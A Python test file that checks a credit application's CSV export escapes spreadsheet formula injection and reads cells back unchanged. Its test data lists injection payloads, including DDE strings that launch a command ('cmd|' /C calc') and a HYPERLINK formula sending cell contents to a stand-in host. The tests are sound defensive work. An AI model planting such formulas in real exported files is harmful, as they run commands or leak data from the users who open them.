"""Cells that leave in a table: never a formula, and read back as just what they were."""

import csv
import re
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from credit_engine.services.import_kinds import KINDS
from credit_engine.services.import_table import read_table
from credit_engine.services.table_cells import FORMULA_STARTS, escaped, table_line, unescaped
from tests.builders import minimal_pack

PACKAGE = Path(__file__).parents[2] / "credit_engine"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example/?"&A1,"open")',
    "+49 30 123456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1\tx",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "-",
    "--1",
    "-1e5",
    "-1,5",
    "'=1+1",
    "''=1+1",
]
# Those that a record can hold: no control characters.
KEPT = [formula for formula in FORMULAS if formula.isprintable()]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_marked_as_text(cell: str) -> None:
    assert escaped(cell) == f"'{cell}"
    assert unescaped(escaped(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Acme GmbH",
        "-5.00",
        "-12",
        "0.5",
        "1200.00",
        "a=b",
        "2026-11-20",
        "'",
        "'tis",
        "O'Neill",
    ],
)
def test_numbers_stay_numbers_and_other_texts_are_left_alone(cell: str) -> None:
    assert escaped(cell) == cell
    assert unescaped(cell) == cell


@given(st.text() | st.text("'=+-@\t\r\n 1.", max_size=6))
@example("'-1")
@example("''")
def test_any_cell_comes_back_and_none_begins_like_a_formula(cell: str) -> None:
    written = escaped(cell)

    assert unescaped(written) == cell
    starts = written.startswith(FORMULA_STARTS)
    assert not starts or re.fullmatch(r"-?[0-9]{1,16}(\.[0-9]{1,16})?", written)


def test_a_planted_line_that_is_not_escaped_begins_like_one() -> None:
    (cells,) = csv.reader(["=1+1,x\r\n"])

    assert cells[0].startswith(FORMULA_STARTS)


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_a_line_is_read_as_the_cells_that_it_was_made_of(cells: list[str]) -> None:
    (read,) = csv.reader(StringIO(table_line(cells), newline=""))

    assert [unescaped(cell) for cell in read] == cells


@pytest.mark.parametrize("name", KEPT)
def test_our_own_importer_reads_what_was_meant(name: str) -> None:
    lines = [table_line(["name", "system", "payer_number"]), table_line([name, "erp", "-7"])]

    (row,) = read_table(KINDS["buyers"], minimal_pack(), lines)

    assert row.document == {
        "name": name,
        "numbers": [{"system": "erp", "payer_number": "-7"}],
    }


def test_one_file_alone_writes_csv() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)|(?i:to_csv|write_csv|copy_to_csv)")
    found = [path for path in PACKAGE.rglob("*.py") if writers.search(path.read_text("utf-8"))]

    assert [path.name for path in found] == ["table_cells.py"]
